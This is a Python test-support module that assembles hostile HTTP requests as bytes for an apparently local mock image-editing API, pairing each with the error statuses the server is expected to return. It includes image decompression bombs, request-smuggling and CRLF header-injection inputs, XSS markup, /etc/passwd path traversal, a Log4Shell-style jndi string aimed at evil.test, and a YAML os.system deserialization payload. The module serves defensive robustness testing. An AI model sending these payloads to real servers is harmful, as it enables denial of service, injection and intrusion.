"""Malicious requests as bytes: decompression bombs, false lengths, request smuggling."""

import base64
import functools
import io
import json
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.support.images import png

EDGE = "hostile-edge"
KEY = "Authorization: Bearer sk-hostile-0123456789"
EDITS = "/v1/images/edits"
Attack = tuple[str, bytes, tuple[int, ...]]
# The connection closes without a response.
NONE = 0


def head(
    path: str = EDITS, method: str = "POST", *more: str, version: str = "1.1", host: str = "Host: localhost"
) -> bytes:
    """The head of a request with `Connection: close`."""
    lines = [f"{method} {path} HTTP/{version}", host, "Connection: close", KEY, *more]
    return "\r\n".join([*filter(None, lines), "", ""]).encode("utf-8", "surrogateescape")


def post(body: bytes, kind: str = f"multipart/form-data; boundary={EDGE}", path: str = EDITS, *more: str) -> bytes:
    """A whole request with a body."""
    return head(path, "POST", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *more) + body


def part(name: str, data: bytes, *more: str, filename: str | None = None) -> bytes:
    """One part of a form; names are not escaped."""
    file = "" if filename is None else f'; filename="{filename}"'
    lines = [f"--{EDGE}", f'Content-Disposition: form-data; name="{name}"{file}', *more, "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + data + b"\r\n"


def form(*parts: bytes, prompt: bytes = b"x", image: bytes | None = None) -> bytes:
    """The form of an edit with additional parts."""
    picture = part("image", png() if image is None else image, "Content-Type: image/png", filename="a.png")
    fields = part("model", b"gpt-image-2") + part("prompt", prompt)
    return fields + picture + b"".join(parts) + f"--{EDGE}--\r\n".encode()


def edit(**changed: bytes) -> bytes:
    return post(form(**changed))


def document(value: object) -> bytes:
    """A request with a JSON body."""
    return post(json.dumps(value).encode(), "application/json")


def url(data: bytes, kind: str = "image/png") -> str:
    """A data URL."""
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def chunked(*chunks: bytes, width: int = 1, height: int = 1, pixels: bytes = b"\0\0\0\0\0") -> bytes:
    """An RGBA PNG with the given chunks before its pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    )


@functools.cache
def zeros(megabytes: int) -> bytes:
    """Compressed zeros."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def webp(width: int, height: int) -> bytes:
    """A lossless WebP that declares a size but has almost no data."""
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(8)
    return b"RIFF" + struct.pack("<I", 12 + len(data)) + b"WEBPVP8L" + struct.pack("<I", len(data)) + data


def gif(width: int, height: int, frames: int = 1) -> bytes:
    """A GIF that declares a size in each frame."""
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02D\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6) + frame * frames + b";"


def many_frames() -> bytes:
    """An animated PNG of a thousand frames."""
    first, *others = [Image.new("1", (1, 1), index % 2) for index in range(1_000)]
    file = io.BytesIO()
    first.save(file, "PNG", save_all=True, append_images=others)
    return file.getvalue()


def bombs() -> Iterator[Attack]:
    """Images that are small on the wire and large in memory."""
    wide = chunked(width=50_000, height=50_000, pixels=bytes(1000))
    real = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
    real += chunk(b"IDAT", zeros(108)) + chunk(b"IEND", b"")
    yield "png-pixels-claimed", edit(image=wide), (400,)
    yield "png-pixels-real", edit(image=real), (400,)
    yield "png-pixels-highest", edit(image=chunked(width=2**31 - 1, height=2**31 - 1)), (400,)
    yield "png-pixels-zero", edit(image=chunked(width=0, height=0)), (400,)
    yield "png-more-pixels-than-claimed", edit(image=chunked(pixels=bytes(50 << 20))), (200, 400)
    yield "png-ztxt", edit(image=chunked(chunk(b"zTXt", b"k\0\0" + zeros(200)))), (200, 400)
    yield "png-itxt", edit(image=chunked(chunk(b"iTXt", b"k\0\1\0\0\0" + zeros(200)))), (200, 400)
    yield "png-iccp", edit(image=chunked(chunk(b"iCCP", b"k\0\0" + zeros(200)))), (200, 400)
    yield "png-ztxt-many", edit(image=chunked(*[chunk(b"zTXt", b"k\0\0" + zeros(2))] * 200)), (200, 400)
    yield "png-exif", edit(image=chunked(chunk(b"eXIf", b"MM\0*\xff\xff\xff\xff"))), (200, 400)
    yield "png-chunk-lies", edit(image=png()[:33] + b"\xff\xff\xff\xff" + png()[37:]), (200, 400)
    yield "png-apng-frames", edit(image=many_frames()), (200, 400)
    yield "webp-pixels", edit(image=webp(16_384, 16_384)), (400,)
    yield "webp-riff-lies", edit(image=b"RIFF\xff\xff\xff\xffWEBPVP8X\xff\xff\xff\xff"), (400,)
    yield "gif-pixels", edit(image=gif(65_535, 65_535)), (400,)
    yield "gif-frames", edit(image=gif(4_000, 4_000, frames=2_000)), (400,)
    yield "mask-bomb", post(form(part("mask", wide, "Content-Type: image/png", filename="m.png"))), (400,)
    yield "json-bomb", document({"model": "gpt-image-2", "prompt": "x", "images": [{"image_url": url(wide)}]}), (400,)
    yield (
        "json-gif",
        document({"model": "gpt-image-2", "prompt": "x", "images": [{"image_url": url(gif(9, 9))}]}),
        (400,),
    )
    broken = "data:image/png;base64," + "A" * 3_000_001
    yield (
        "json-base64-broken",
        document({"model": "gpt-image-2", "prompt": "x", "images": [{"image_url": broken}]}),
        (400,),
    )


def forms() -> Iterator[Attack]:
    """Multipart bodies that are inconsistent, truncated or endless."""
    whole = form()
    kind = f"multipart/form-data; boundary={EDGE}"
    yield "form-truncated", post(whole[:-20]), (400,)
    yield "form-truncated-in-a-head", post(whole[:70]), (400,)
    yield "form-empty", post(b""), (400,)
    yield "form-only-the-end", post(f"--{EDGE}--\r\n".encode()), (400,)
    yield "form-length-short", head(EDITS, "POST", f"Content-Type: {kind}", "Content-Length: 50") + whole, (400,)
    yield "form-length-long", head(EDITS, "POST", f"Content-Type: {kind}", "Content-Length: 9999999") + whole, (NONE,)
    yield "form-other-boundary", post(whole, "multipart/form-data; boundary=other"), (400,)
    yield "form-no-boundary", post(whole, "multipart/form-data"), (400,)
    yield "form-boundary-empty", post(whole, "multipart/form-data; boundary="), (400,)
    yield "form-boundary-long", post(whole, "multipart/form-data; boundary=" + "b" * 5_000), (400,)
    yield "form-boundary-bytes", post(whole, 'multipart/form-data; boundary="\udcff\udcfe"'), (400,)
    yield (
        "form-boundary-star",
        post(whole, "multipart/form-data; boundary*0=a; boundary*1=b; boundary*=utf-9''x"),
        (400,),
    )
    yield "form-charset", post(whole, kind + "; charset=utf-9"), (200, 400)
    yield "form-10000-parts", post(form(*[part("a", b"")] * 10_000)), (400,)
    yield "form-10000-array-parts", post(form(*[part("a[]", b"")] * 10_000)), (400,)
    yield "form-10000-files", post(form(*[part("image[]", b"", filename="a.png")] * 10_000)), (400,)
    yield (
        "form-900-files",
        post(form(*[part("image[]", png(), "Content-Type: image/png", filename="a.png")] * 900)),
        (400,),
    )
    yield "form-10000-headers", post(form(part("a", b"", *[f"X-{place}: y" for place in range(10_000)]))), (400,)
    yield "form-header-1mb", post(form(part("a", b"", "X: " + "y" * 1_000_000))), (400,)
    yield "form-name-1mb", post(form(part("a" * 1_000_000, b""))), (400,)
    yield "form-endless-head", post(f"--{EDGE}\r\nA: ".encode() + b"b" * 5_000_000), (400,)
    yield "form-no-colon", post(form(part("a", b"", "what is this"))), (400,)
    yield "form-no-disposition", post(f"--{EDGE}\r\n\r\nx\r\n--{EDGE}--\r\n".encode()), (400,)
    yield "form-bare-lf", post(form().replace(b"\r\n", b"\n")), (400,)
    yield "form-bare-cr", post(form().replace(b"\r\n", b"\r")), (400,)
    yield "form-preamble-8mb", post(b"p" * 8_000_000 + form()), (200, 400)
    yield "form-epilogue-8mb", post(form() + b"e" * 8_000_000), (200, 400)
    yield "form-nested", post(form(part("a", form(), f"Content-Type: {kind}"))), (400,)
    yield "form-names-null", post(form(part("a\0b", b"x"))), (400,)
    yield "form-name-empty", post(form(part("", b"x"))), (400,)
    yield "form-name-brackets", post(form(part("[]", b"x"))), (400,)
    yield "form-name-deep", post(form(part("a[b][c][d][]" + "[e]" * 500, b"x"))), (400,)
    yield "form-utf8-broken", edit(prompt=b"\xff\xfe\xed\xa0\x80"), (200, 400)
    yield "form-fields-99", post(form(*[part(f"f{place}", b"x" * 200_000) for place in range(99)])), (400,)
    yield "form-text-10mb", edit(prompt=b"x" * 10_000_000), (400,)
    yield "form-file-as-user", post(form(part("user", b"x", filename="a.png"))), (400,)
    yield "form-encoded", post(b"model=gpt-image-2&prompt=x", "application/x-www-form-urlencoded"), (400,)
    yield "form-mixed", post(form(), f"multipart/mixed; boundary={EDGE}"), (400,)
    yield "form-two-types", post(form(), kind, EDITS, "Content-Type: application/json"), (400,)
    yield "form-gzip", post(zeros(50), kind, EDITS, "Content-Encoding: gzip"), (400,)


def injections() -> Iterator[Attack]:
    """Names and texts that would become headers, log lines or markup if they were not escaped."""
    file = functools.partial(part, "image", png(), "Content-Type: image/png")
    markup = b"</script><script>alert(1)</script><img src=x onerror=alert(1)>"
    yield "filename-crlf", post(form(file(filename="a\r\nX-Injected: 1\r\n\r\n.png"))), (400,)
    yield "filename-percent-crlf", post(form(part("mask", b"x", filename="%0d%0aX-Injected:%201.png"))), (400,)
    yield "filename-path", post(form(part("mask", b"x", filename="../../../../etc/passwd"))), (400,)
    yield "filename-null", post(form(part("mask", b"x", filename="a\0.png"))), (400,)
    yield "filename-markup", post(form(part("mask", b"x", filename=markup.decode()))), (400,)
    yield (
        "filename-star",
        post(form(part("mask", b"x", "X: y", filename="a\"; filename*=utf-8''%0d%0aX-Injected: 1"))),
        (400,),
    )
    yield "filename-escape", post(form(part("mask", b"x", filename="\x1b]0;owned\x07\x1b[2J"))), (400,)
    yield "prompt-crlf", edit(prompt=b"x\r\nX-Injected: 1\r\n\r\n"), (200,)
    yield "prompt-null", edit(prompt=b"\0x\0"), (200,)
    yield "prompt-markup", edit(prompt=markup), (200,)
    yield "prompt-escapes", edit(prompt="\x1b[2J\x07\u202e\u2028\ufeff\U000e0041".encode()), (200,)
    yield "prompt-format", edit(prompt=b"{model} {0.__class__} %s %n ${jndi:ldap://evil.test/a}"), (200,)
    yield "model-crlf", post(form().replace(b"gpt-image-2", b"x\r\nX-Injected: 1")), (400,)
    yield "model-markup", post(form().replace(b"gpt-image-2", markup)), (400,)
    yield "model-format", post(form().replace(b"gpt-image-2", b"{model.__class__} {0} {} %s")), (400,)
    yield "model-surrogate", document({"model": "\ud800\r\nX-Injected: 1", "prompt": "x"}), (400,)
    yield (
        "prompt-surrogate",
        document({"model": "gpt-image-2", "prompt": "\udfff", "images": [{"image_url": url(png())}]}),
        (200, 400),
    )
    yield "names-surrogate", document({"\ud800": "\udfff", "model": "gpt-image-2"}), (400,)
    yield "type-crlf", post(b"x", "x/y\tX-Injected: 1"), (400,)
    yield "type-bytes", post(b"x", "\udcff\udcfe/\udcfd"), (400,)
    yield "path-markup", head("/v1/<script>alert(1)</script>", "GET"), (404, 400)
    yield "path-crlf", head("/v1/x%0d%0aX-Injected:%201", "GET"), (404,)
    yield "query-crlf", head("/v1/models?x=%0d%0aX-Injected:%201", "GET"), (200,)
    yield "key-bytes", head("/v1/models", "GET", "Authorization: Bearer \udcff\udcfe"), (200,)
    yield "key-basic-broken", head("/v1/models", "GET", "Authorization: Basic \udcff==="), (401, 200)
    yield "picked-path", head(EDITS, "POST", "X-Mockserver-Scenario: ../../etc/passwd", "Content-Length: 0"), (400,)
    yield "picked-bytes", head(EDITS, "POST", "X-Mockserver-Scenario: \udcff", "Content-Length: 0"), (400,)
    yield "picked-long", head(EDITS, "POST", "X-Mockserver-Scenario: " + "a" * 20_000, "Content-Length: 0"), (400,)
    yield "origin-crlf", head("/__mock/journal", "GET", "Origin: http://evil.test/\tX-Injected: 1"), (403,)
    yield "host-markup", head("/__mock/health", "GET", host="Host: <script>"), (403,)
    yield "host-none", head("/v1/models", "GET", host=""), (200, 400)
    yield "host-two", head("/v1/models", "GET", "Host: evil.test"), (200, 400)
    yield "host-bytes", head("/v1/models", "GET", host="Host: \udcff\udcfe"), (200, 400)
    yield (
        "host-of-urls",
        post(
            form(part("response_format", b"url")), f"multipart/form-data; boundary={EDGE}", EDITS, 'Host: a"><script>'
        ),
        (200, 400),
    )


def paths() -> Iterator[Attack]:
    """Path traversal and malformed paths."""
    secret = "etc/passwd"
    for number, path in enumerate(
        (
            f"/..%2f..%2f..%2f..%2f{secret}",
            f"/%2e%2e/%2e%2e/%2e%2e/{secret}",
            f"/v1/../../../{secret}",
            f"//{secret}",
            f"///{secret}",
            f"/v1//{secret}",
            f"/%00/{secret}",
            f"/v1/files/..%2f..%2f{secret}",
            "/v1/files/%00",
            "/v1/files/" + "a" * 30_000,
            "/v1/models/%2e%2e%2f",
            "/v1/models/%ff%fe",
            "/v1/models/" + "%41" * 10_000,
            f"/__mock/pictures/..%2f..%2f{secret}",
            "/__mock/pictures/%00",
            "/__mock/pictures/" + "0" * 64,
            "/__mock/pictures/",
            f"/__mock/journal/..%2f{secret}",
            "/__mock/journal/e999999999999999",
            "/__mock/journal/e" + "9" * 6_000,
            "/__mock/%2e%2e/health",
            "/__mock/scenario/../../../x",
            f"/private/..%2f{secret}",
            "/private/img-.png",
            "/private/%00.png?se=%00",
            "/private/a/img-0000.png?se=9999999999999999999999&st=%ff",
            "/__mock/s/",
            "/__mock/s",
            "/__mock/s//v2/models",
            "/__mock/s/%00/v2/models",
            "/__mock/s/..%2f../v2/models",
            "/__mock/s/" + "s" * 30_000 + "/v2/models",
            "/openai/deployments/%2e%2e/images/edits?api-version=%00",
            "*",
            "/%",
            "/%zz",
            "/v1/models%0a",
        )
    ):
        yield f"path-{number}", head(path, "GET"), (307, 400, 401, 403, 404)
    yield "path-absolute", head("http://evil.test/v1/models", "GET"), (200, 400, 404)
    yield "path-authority", head("evil.test:80", "CONNECT"), (400, 404, 405, NONE)
    yield "path-scheme", head("file:///etc/passwd", "GET"), (400, 404)
    yield "path-bytes", head("/\udcff\udcfe", "GET"), (400, 404)
    yield "path-100kb", head("/" + "a" * 100_000, "GET"), (404, 414, 431)
    yield "query-100kb", head("/v1/models?" + "a=b&" * 25_000, "GET"), (200, 414, 431)
    for name in ("session", "since", "limit", "status", "outcome"):
        yield f"query-{name}", head(f"/__mock/journal?{name}=%00%ff..%2f{'9' * 5_000}", "GET"), (200, 400, 414)
    yield "method-unknown", head("/v1/models", "BREW"), (400, 405)
    yield "method-long", head("/v1/models", "A" * 10_000), (400, 405)
    yield "method-trace", head("/v1/models", "TRACE"), (405,)
    yield "method-put", head(EDITS, "PUT", "Content-Length: 0"), (405,)


def smuggling() -> Iterator[Attack]:
    """Requests of which two readers may see two ends."""
    inner = b"GET /v1/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    chunks, length = "Transfer-Encoding: chunked", "Content-Length: 5"
    plain = "Content-Type: application/json"
    yield "length-and-chunked", head(EDITS, "POST", plain, length, chunks) + b"0\r\n\r\n" + inner, (400,)
    yield "chunked-and-length", head(EDITS, "POST", plain, chunks, length) + b"0\r\n\r\n" + inner, (400,)
    yield "two-lengths", head(EDITS, "POST", plain, length, "Content-Length: 6") + b"aaaaaa" + inner, (400,)
    yield "two-lengths-alike", head(EDITS, "POST", plain, length, length) + b"aaaaa" + inner, (400,)
    yield "length-list", head(EDITS, "POST", plain, "Content-Length: 5, 5") + b"aaaaa", (400,)
    yield "length-negative", head(EDITS, "POST", plain, "Content-Length: -5") + inner, (400,)
    yield "length-plus", head(EDITS, "POST", plain, "Content-Length: +5") + b"aaaaa", (400,)
    yield "length-hex", head(EDITS, "POST", plain, "Content-Length: 0x5") + b"aaaaa", (400,)
    yield "length-words", head(EDITS, "POST", plain, "Content-Length: five") + b"aaaaa", (400,)
    yield "length-huge", head(EDITS, "POST", plain, "Content-Length: " + "9" * 100) + b"aaaaa", (400,)
    yield "length-space", head(EDITS, "POST", plain, "Content-Length : 5") + b"aaaaa", (400,)
    yield "chunked-obscured", head(EDITS, "POST", plain, "Transfer-Encoding: xchunked", length) + b"aaaaa", (400,)
    yield "chunked-twice", head(EDITS, "POST", plain, "Transfer-Encoding: chunked, identity") + b"0\r\n\r\n", (400,)
    yield "chunked-folded", head(EDITS, "POST", plain, "Transfer-Encoding:\r\n chunked") + b"0\r\n\r\n", (400,)
    yield "chunked-old", head(EDITS, "POST", plain, chunks, version="1.0") + b"0\r\n\r\n", (400,)
    yield "chunk-size-words", head(EDITS, "POST", plain, chunks) + b"zz\r\naaaaa\r\n0\r\n\r\n", (400,)
    yield "chunk-size-negative", head(EDITS, "POST", plain, chunks) + b"-5\r\naaaaa\r\n0\r\n\r\n", (400,)
    yield "chunk-size-huge", head(EDITS, "POST", plain, chunks) + b"f" * 40 + b"\r\naaaaa\r\n0\r\n\r\n", (400,)
    yield "chunk-size-spaced", head(EDITS, "POST", plain, chunks) + b" 5\r\naaaaa\r\n0\r\n\r\n", (400,)
    yield "chunk-lies", head(EDITS, "POST", plain, chunks) + b"3\r\naaaaa\r\n0\r\n\r\n", (400,)
    yield "chunk-bare-lf", head(EDITS, "POST", plain, chunks) + b"5\naaaaa\n0\n\n", (400,)
    yield (
        "chunk-extensions",
        head(EDITS, "POST", plain, chunks) + b"1;" + b"a=b;" * 100_000 + b"\r\na\r\n0\r\n\r\n",
        (400, 431),
    )
    yield "trailers", head(EDITS, "POST", plain, chunks) + b"2\r\n{}\r\n0\r\nX-Mockserver-Scenario: ok\r\n\r\n", (400,)
    yield "trailers-many", head(EDITS, "POST", plain, chunks) + b"0\r\n" + b"a: b\r\n" * 100_000 + b"\r\n", (400, 431)
    yield "bare-lf", head("/v1/models", "GET").replace(b"\r\n", b"\n"), (200, 400)
    yield "bare-lf-in-a-header", head("/v1/models", "GET", "X: y\nX-Injected: 1"), (400,)
    yield "bare-cr-in-a-header", head("/v1/models", "GET", "X: y\rX-Injected: 1"), (400,)
    yield "null-in-a-header", head("/v1/models", "GET", "X: y\0z"), (400,)
    yield "folded-header", head("/v1/models", "GET", "X: y\r\n z"), (200, 400)
    yield "header-no-colon", head("/v1/models", "GET", "what is this"), (400,)
    yield "header-no-name", head("/v1/models", "GET", ": x"), (400,)
    yield "header-1mb", head("/v1/models", "GET", "X: " + "y" * 1_000_000), (431,)
    yield "headers-100000", head("/v1/models", "GET", *["X: y"] * 100_000), (431,)
    yield "version-2", head("/v1/models", "GET", version="2.0"), (200, 400)
    yield "version-0.9", b"GET /v1/models\r\n\r\n", (400, 401)
    yield "version-odd", head("/v1/models", "GET", version="1.1.1"), (400,)
    yield "tls", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), (400,)
    yield "http2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400,)
    yield "nothing", b"", (NONE,)
    yield "only-crlf", b"\r\n" * 50_000, (NONE, 400, 431)
    yield "zeros", bytes(100_000), (400,)
    yield "upgrade", head("/v1/models", "GET", "Upgrade: websocket").replace(b"close", b"close, Upgrade"), (200,)
    yield (
        "upgrade-h2c",
        head("/v1/models", "GET", "Upgrade: h2c", "HTTP2-Settings: x").replace(b"close", b"close, Upgrade"),
        (200,),
    )
    yield "upgrade-with-a-body", edit().replace(b"close", b"close, Upgrade\r\nUpgrade: h2c", 1), (200,)
    yield "expect", post(form(), f"multipart/form-data; boundary={EDGE}", EDITS, "Expect: 100-continue"), (200,)
    yield "expect-odd", head("/v1/models", "GET", "Expect: 200-maybe"), (200, 417)
    yield (
        "pipelined-1000",
        b"GET /v1/nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n" * 1_000 + head("/v1/models", "GET"),
        (401, 404),
    )


def documents() -> Iterator[Attack]:
    """JSON that is deeply nested, large, unusual or invalid."""
    kind = "application/json"
    for depth in (100, 300, 500, 900, 990, 100_000):
        yield f"json-deep-{depth}", post(b'{"a":' + b"[" * depth + b"]" * depth + b"}", kind), (400,)
        yield f"json-deep-keys-{depth}", post(b'{"a":' * depth + b"1" + b"}" * depth, kind), (400,)
    yield "json-number", post(b'{"n": ' + b"9" * 100_000 + b"}", kind), (400,)
    yield "json-number-4000", post(b'{"n": ' + b"9" * 4_000 + b"}", kind), (400,)
    yield "json-exponent", post(b'{"n": 1e999999, "model": "gpt-image-2", "prompt": "x"}', kind), (400,)
    yield "json-nan", post(b'{"n": NaN}', kind), (400,)
    yield "json-keys", document({str(number): 1 for number in range(100_000)}), (400,)
    yield "json-keys-twice", post(b'{"model": "x", "model": "y"}', kind), (400,)
    yield "json-list", post(b"[]", kind), (400,)
    yield "json-nothing", post(b"", kind), (400,)
    yield "json-bytes", post(b"\xff\xfe\x00", kind), (400,)
    yield "json-utf16", post('{"model": "x"}'.encode("utf-16"), kind), (400,)
    yield "json-bom", post(b'\xef\xbb\xbf{"model": "x"}', kind), (400,)
    yield "json-null-key", document({"\0": "\0"}), (400,)
    yield (
        "json-values",
        document({"model": "x", "a": list(range(200_000)), "b": {str(n): n for n in range(50_000)}}),
        (400,),
    )
    beyond = [{"image_url": "data:image/png;base64,\u00e9AAA"}]
    yield "json-base64-not-ascii", document({"model": "gpt-image-2", "prompt": "x", "images": beyond}), (400,)
    yield "json-mask-not-ascii", document({"model": "gpt-image-2", "prompt": "x", "mask": beyond[0]}), (400,)
    yield "json-types", document({"model": ["gpt-image-2"], "prompt": {"a": 1}, "images": 3, "n": True}), (400,)
    yield (
        "json-images-many",
        document({"model": "gpt-image-2", "prompt": "x", "images": [{"image_url": "x"}] * 5_000}),
        (400,),
    )
    for name in ("scenario", "next", "verify", "clock", "verdict"):
        method = "PUT" if name == "scenario" else "POST"
        for what, body in (
            ("deep", b"[" * 100_000),
            (
                "aliases",
                b"a: &a [x,x,x,x,x,x,x,x,x]\n"
                + b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(9)),
            ),
            ("python", b"!!python/object/apply:os.system [id]"),
            ("large", b"#" * 5_000_000),
            ("bytes", b"\xff\xfe\x00\x80"),
            ("merge", b"<<: *x"),
            ("self", b"&a [*a]"),
            ("repr", b'{"entry": ' + b"[" * 900 + b"]" * 900 + b', "result": "success"}'),
            ("number", b"{advance: " + b"9" * 5_000 + b"}"),
            ("nan", b'{"advance": NaN}'),
        ):
            lines = ("Content-Type: application/json", f"Content-Length: {len(body)}")
            yield f"{name}-{what}", head(f"/__mock/{name}", method, *lines) + body, (400, 404, 413)


def all_attacks() -> list[Attack]:
    """Every attack: its name, the bytes to send, and the accepted statuses."""
    return [*bombs(), *forms(), *injections(), *paths(), *smuggling(), *documents()]
